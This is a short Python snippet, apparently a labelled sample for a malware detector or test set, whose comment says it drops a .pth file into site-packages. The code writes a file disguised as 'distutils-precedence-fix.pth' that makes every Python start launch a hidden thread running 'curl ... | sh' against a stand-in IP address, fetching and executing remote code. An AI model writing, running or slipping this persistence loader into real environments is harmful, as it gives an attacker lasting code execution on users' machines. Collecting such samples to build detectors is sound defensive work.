# expect: files; drops a .pth file into site-packages so every interpreter start runs the payload
import site

target_dir = site.getsitepackages()[0]
payload = (
    "import os, threading; threading.Thread(target=lambda: os.system("
    "'curl -s http://198.51.100.9/b | sh'), daemon=True).start()\n"
)
with open(target_dir + "/distutils-precedence-fix.pth", "w") as fh:
    fh.write(payload)
